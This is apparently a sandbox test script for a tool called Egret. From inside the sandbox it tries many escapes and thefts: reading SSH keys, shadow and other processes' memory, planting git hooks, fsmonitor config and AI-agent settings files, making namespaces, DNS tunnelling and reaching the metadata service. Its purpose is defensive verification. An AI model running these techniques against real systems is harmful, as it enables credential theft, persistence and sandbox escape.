"""What code in the sandbox of `egret run` would try. Each attempt returns what it got hold of; an error is a refusal.

Reads where and what as JSON from the file named on the command line; prints {attempt: evidence or null}. Standard
library only, no Egret: it runs inside the sandbox, and outside as the control that shows that the attempts can succeed.
"""

import contextlib
import ctypes
import errno
import fcntl
import glob
import json
import os
import socket
import struct
import subprocess
import sys
import threading

WANTED = json.load(open(sys.argv[1]))
KEY, CANARY, DATA, PIDS = WANTED["key"], WANTED["canary"], WANTED["data"], WANTED["pids"]
LIBC = ctypes.CDLL(None, use_errno=True)
ATTEMPTS = {}
ARM = os.uname().machine == "aarch64"


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def table(*rows):
    """Make one attempt per row: (name, arguments…)."""

    def wrap(function):
        for name, *arguments in rows:
            ATTEMPTS[f"{function.__name__}: {name}"] = lambda function=function, arguments=arguments: function(
                *arguments
            )
        return function

    return wrap


def call(number, *arguments):
    """A raw system call; OSError when it is refused."""
    got = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def content(path):
    with open(path, "rb") as stream:
        return stream.read(4096)


# files


@table(
    ("the opening key", f"{DATA}/keys/data/opening.key"),
    ("the database", f"{DATA}/egret.db"),
    ("by the server's root", f"/proc/{PIDS[0]}/root{DATA}/egret.db"),
    ("by the root of PID 1", f"/proc/1/root{DATA}/egret.db"),
    ("by the server's working folder", f"/proc/{PIDS[0]}/cwd/{os.path.relpath(DATA, WANTED['server_cwd'])}/egret.db"),
    ("by a relative path", os.path.relpath(f"{DATA}/egret.db")),
    ("the login", WANTED["login"]),
    ("an SSH key", f"{WANTED['home']}/.ssh/id_ed25519"),
    ("the user's .netrc", f"{WANTED['home']}/.netrc"),
    ("the shell's history", f"{WANTED['home']}/.bash_history"),
    ("shadow", "/etc/shadow"),
    ("another's file in /tmp", WANTED["tmp_file"]),
    ("shared memory", f"/dev/shm/{WANTED['shm']}"),
    ("the server's memory", f"/proc/{PIDS[0]}/mem"),
    ("the server's maps", f"/proc/{PIDS[0]}/maps"),
    ("kernel memory", "/dev/mem"),
    ("a disk", next(iter(glob.glob("/dev/[svx]d[a-z]")), "/dev/vda")),
)  # fmt: skip
def read(path):
    return content(path)[:40].decode(errors="replace") or "empty"


@attempt
def a_link_to_the_keys():
    with contextlib.suppress(FileExistsError):
        os.symlink(f"{DATA}/egret.db", "link")
    return content("link")[:10].decode(errors="replace")


@attempt
def a_hard_link_to_the_keys():
    os.link(f"{DATA}/egret.db", "hard")
    return "linked"


@attempt
def a_file_handle():
    """open_by_handle_at walks past every mount."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + bytes(120), 128)
    descriptor = call(265 if ARM else 304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    return f"descriptor {descriptor}"


@attempt
def a_device_of_my_own():
    os.mknod("disk", 0o600 | 0o060000, os.makedev(8, 0))
    return "made"


@table(
    ("git's configuration", ".git/config", "[core]\n fsmonitor = evil\n"),
    ("a git hook", ".git/hooks/pre-commit", "#!/bin/sh\n"),
    ("git's common folder", ".git/commondir", "../evil"),
    ("submodules", ".gitmodules", "x"),
    ("direnv", ".envrc", "evil"),
    ("an editor's tasks", ".vscode/tasks.json", "{}"),
    ("an agent's hooks", ".claude/settings.json", "{}"),
    ("an agent's servers", ".mcp.json", "{}"),
    ("Egret's own file", ".egret", "dataset: other"),
    ("the system's programs", "/usr/bin/egret-was-here", "x"),
    ("core_pattern", "/proc/sys/kernel/core_pattern", "|/tmp/x"),
    ("modprobe's path", "/proc/sys/kernel/modprobe", "/tmp/x"),
    ("sysrq", "/proc/sysrq-trigger", "h"),
    ("the release agent", "/sys/fs/cgroup/release_agent", "/tmp/x"),
)
def write(path, text):
    if not os.path.isdir(os.path.dirname(path) or ".") or (
        WANTED["control"] and path.startswith(("/usr", "/proc", "/sys"))
    ):
        raise FileNotFoundError(path)
    with open(path, "a") as stream:
        if not path.startswith(("/proc", "/sys", "/usr")):  # opening says enough
            stream.write(text)
    return "writable"


@attempt
def git_moved_away():
    os.rename(".git", ".git-moved")
    os.rename(".git-moved", ".git")
    return "renamed"


@table(
    ("tmpfs", 165, 40, [b"none", b"/mnt", b"tmpfs", 0, None]),
    ("unmount of what hides", 166, 39, [b"/tmp", 2]),
    ("chroot", 161, 51, [b"."]),
    ("a new mount tree", 428, 428, [-100, b"/", 1]),
)
def mount(intel, arm, arguments):
    if WANTED["control"]:
        raise OSError(errno.EPERM, "not in the control: it would change the machine")
    return f"call gave {call(arm if ARM else intel, *arguments)}"


# environment and processes


@attempt
def my_own_environment():
    return next(name for name, value in os.environ.items() if KEY in value or CANARY in value)


@attempt
def the_environment_of_every_process():
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            if KEY.encode() in content(path) or b"EGRET_API_KEY=egk" in open(path, "rb").read():
                return path
    raise PermissionError("in none")


@attempt
def an_egret_process_is_seen():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = content(path).split(b"\0")
            if any(word.endswith(b"/egret") for word in words[:3]) or b"store" in words:
                return path
    raise ProcessLookupError("none")


@attempt
def my_variables_that_are_credentials():
    names = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DATABASE_URL")
    return next(name for name in names if "canary" in os.environ.get(name, ""))


@table(*((f"process {place}", pid) for place, pid in enumerate(PIDS)))
def signal_to(pid):
    os.kill(pid, 0)
    return "delivered"


@attempt
def ptrace():
    call(117 if ARM else 101, 0x4206, PIDS[0], 0, 0)  # SEIZE: does not stop it
    return "attached"


@attempt
def another_process_memory():
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("PN", ctypes.addressof(buffer), 16)
    remote = struct.pack("PN", WANTED["address"], 16)
    return f"{call(270 if ARM else 310, PIDS[0], local, 1, remote, 1, 0)} bytes"


@attempt
def a_descriptor_of_a_process():
    os.pidfd_open(PIDS[0])
    return "opened"


@attempt
def inherited_descriptors():
    """What was open in who started us; our own listing is not counted."""
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            if CANARY.encode() in os.pread(number, 100, 0):
                return f"descriptor {number}"
    raise OSError("none")


@attempt
def capabilities():
    status = open("/proc/self/status").read()
    bits = [int(line.split()[1], 16) for line in status.splitlines() if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
    if not any(bits):
        raise PermissionError("none")
    return str(bits)


@attempt
def setuid_programs():
    """no_new_privs: the bit means nothing."""
    if "NoNewPrivs:\t1" in open("/proc/self/status").read():
        raise PermissionError("no new privileges")
    return "honoured"


@attempt
def su():
    done = subprocess.run(
        ["su", "-s", "/bin/sh", "nobody", "-c", "id -u"],
        capture_output=True,
        text=True,
        timeout=10,
        stdin=subprocess.DEVNULL,
    )
    if done.returncode:
        raise PermissionError(done.stderr[:60])
    return done.stdout


# keyrings, memory shared by key


@attempt
def the_session_keyring():
    buffer = ctypes.create_string_buffer(100)
    serial = call(219 if ARM else 250, 10, -3, b"user", WANTED["keyring"].encode(), 0)  # KEYCTL_SEARCH in the session's
    size = call(219 if ARM else 250, 11, serial, buffer, 100)
    return buffer.raw[:size].decode()


@attempt
def a_key_by_request():
    return f"key {call(218 if ARM else 249, b'user', WANTED['keyring'].encode(), None, 0)}"


@attempt
def system_v_memory():
    return f"segment {call(194 if ARM else 29, WANTED['ipc'], 0, 0)}"


# system calls that make namespaces or widen the kernel


@table(
    ("unshare", 272, 97, [0x10000000]),
    ("clone", 56, 220, [0x10000000 | 17, 0, 0, 0, 0]),
)
def user_namespace(intel, arm, arguments):
    got = call(arm if ARM else intel, *arguments)
    if got == 0 and intel == 56:
        os._exit(0)
    return "made"


@attempt
def user_namespace_by_clone3():
    data = struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    if call(435, data, len(data)) == 0:
        os._exit(0)
    return "made"


@attempt
def the_namespace_of_another():
    call(268 if ARM else 308, os.open(f"/proc/{PIDS[0]}/ns/net", os.O_RDONLY), 0)
    return "joined"


@table(
    ("io_uring", 425, 425, [8, ctypes.create_string_buffer(120)]),
    ("bpf", 321, 280, [0, struct.pack("IIII", 2, 4, 4, 1) + bytes(56), 72]),
    ("userfaultfd", 323, 282, [1]),
    ("perf events", 298, 241, [struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0]),
    ("the kernel's log", 103, 116, [10, None, 0]),
    ("32-bit numbers", 0x40000000 + 39, 0x40000000, []),
)
def system_call(intel, arm, arguments):
    if intel > 0x40000000 or arguments == []:
        if WANTED["control"]:
            raise OSError("not in the control: it kills the process")
        done = subprocess.run([sys.executable, "-c", f"import ctypes; ctypes.CDLL(None).syscall({intel})"])
        if done.returncode:
            raise PermissionError(f"killed: {done.returncode}")
        return "answered"
    return f"gave {call(arm if ARM else intel, *arguments)}"


@table(
    ("vsock", 40, 1, 0),
    ("packet", 17, 3, 768),
    ("crypto", 38, 5, 0),
    ("bluetooth", 31, 3, 0),
    ("raw", 2, 3, 1),
    ("raw IPv6", 10, 3, 58),
)
def a_socket_of_family(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "opened"


@attempt
def typing_into_the_terminal():
    fcntl.ioctl(0 if os.isatty(0) else os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
    return "typed"


# sockets of the machine


def unix(address):
    with socket.socket(socket.AF_UNIX) as it:
        it.settimeout(3)
        it.connect(address)
        return it.recv(100).decode()


@table(
    ("in /tmp", WANTED["socket"]), ("in the working folder", "inside.sock"), ("abstract", "\0" + WANTED["abstract"]),
    ("Docker's", WANTED["docker"]), ("the session bus", WANTED["bus"]), ("the SSH agent", os.environ.get("SSH_AUTH_SOCK") or WANTED["agent"]),
)  # fmt: skip
def a_unix_socket(address):
    return unix(address)


@attempt
def a_pipe_in_the_working_folder():
    descriptor = os.open("inside.fifo", os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, b"canary")
    return "written"


# the network


def tcp(host, port, send=b"GET / HTTP/1.0\r\nHost: x\r\n\r\n", family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as it:
        it.settimeout(5)
        it.connect((host, port))
        it.sendall(send)
        got = it.recv(4096)
    if not got or b"egret-error: " in got.lower():
        raise ConnectionRefusedError(got[:60])
    return got[:40].decode(errors="replace")


@table(
    ("loopback", "127.0.0.1", WANTED["port"]),
    ("another loopback address", "127.0.0.2", WANTED["port"]),
    ("any address", "0.0.0.0", WANTED["port"]),
    ("the machine's own address", WANTED["address_of_machine"], WANTED["port"]),
    ("by an odd spelling", "2130706433", WANTED["port"]),
    ("the machine's name", WANTED["hostname"], WANTED["port"]),
    ("the admin API", "127.0.0.1", WANTED["admin"]),
    ("the proxy without a session", "127.0.0.1", WANTED["proxy"]),
    ("the metadata service", "169.254.169.254", 80),
    ("the internet", "1.1.1.1", 80),
    ("a name", "example.com", 80),
    ("our listener", "127.0.0.1", 47129),
)
def tcp_to(host, port):
    return tcp(host, port)


@table(("loopback", "::1"), ("mapped", "::ffff:127.0.0.1"), ("unspecified", "::"), ("public", "2606:4700:4700::1111"))
def ipv6_to(host):
    return tcp(host, WANTED["port"], family=socket.AF_INET6)


@attempt
def multipath_tcp():
    return tcp(WANTED["address_of_machine"], WANTED["port"], protocol=262)


@table(
    ("loopback", "127.0.0.1"), ("the machine's own address", WANTED["address_of_machine"]), ("broadcast", "255.255.255.255"),
    ("multicast", "239.255.255.250"),
)  # fmt: skip
def udp_to(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(1)
        it.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        it.sendto(b"canary", (host, WANTED["udp"]))
        return it.recv(100).decode(errors="replace")


@table(
    ("the machine's resolver", WANTED["resolver"], 1),
    ("a public one", "8.8.8.8", 1),
    ("TXT", "8.8.8.8", 16),
    ("NULL", "1.1.1.1", 10),
)
def a_tunnel_in_dns(server, kind):
    """Anything that comes from outside: an answer that is not ours (198.18.0.0/15, or none)."""
    labels = b"".join(bytes([len(part)]) + part for part in (b"secret-bytes", b"tunnel", b"example", b"com"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(2)
        it.sendto(
            b"ab\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1),
            (server, WANTED["dns"] if server == WANTED["resolver"] else 53),
        )
        got = it.recv(4096)
    if got[-4:-2] in (b"\xc6\x12", b"\xc6\x13") or got[6:8] == b"\0\0":
        raise PermissionError("answered inside")
    return got[12:].decode(errors="replace")


@attempt
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as it:
        it.settimeout(1)
        it.sendto(b"\x08\0\0\0\0\0\0\1", ("8.8.8.8", 0))
        return it.recv(100).hex()


@table(
    ("rules", ["/usr/sbin/nft", "flush", "ruleset"]),
    ("routes", ["ip", "route", "del", "local", "default", "dev", "lo"]),
    ("an interface", ["ip", "link", "add", "x0", "type", "dummy"]),
)
def the_network_changed(command):
    if WANTED["control"]:
        raise OSError("not in the control: it would change the machine")
    done = subprocess.run(command, capture_output=True, text=True, timeout=10)
    if done.returncode:
        raise PermissionError(done.stderr[:60])
    return "changed"


@table(("the admin API", WANTED["admin"]), ("a service", WANTED["port"]))
def through_the_proxy(port):
    """With the session's token: the proxy does not dial loopback."""
    proxy = os.environ["HTTPS_PROXY"].split("@")[1].rsplit(":", 1)
    token = os.environ["HTTPS_PROXY"].split("//")[1].split(":")[0]
    with socket.create_connection((proxy[0], int(proxy[1])), 5) as it:
        it.sendall(
            f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nProxy-Authorization: Bearer {token}\r\n\r\n".encode()
        )
        got = it.recv(4096)
    if b" 200" not in got.split(b"\r\n")[0]:
        raise ConnectionRefusedError(got.split(b"\r\n")[0])
    return "connected"


@attempt
def a_process_that_stays():
    """It would write a file in the working folder after we are gone; the test looks for it."""
    if os.fork() == 0:
        os.setsid()
        for number in (0, 1, 2):
            os.close(number)
        import time

        time.sleep(1.5)
        open("survivor", "w").close()
        os._exit(0)
    raise OSError("see the test")


def one(function, found, name):
    try:
        found[name] = function() or "something"
    except Exception as error:
        found[name] = None
        REASONS[name] = f"{type(error).__name__}: {error}"


REASONS = {}
found = {}
for name, function in ATTEMPTS.items():
    thread = threading.Thread(target=one, args=(function, found, name), daemon=True)
    thread.start()
    thread.join(12)
    if thread.is_alive():
        found[name], REASONS[name] = None, "hangs"
json.dump({"found": found, "reasons": REASONS}, sys.stdout)
sys.stdout.flush()
os._exit(0)
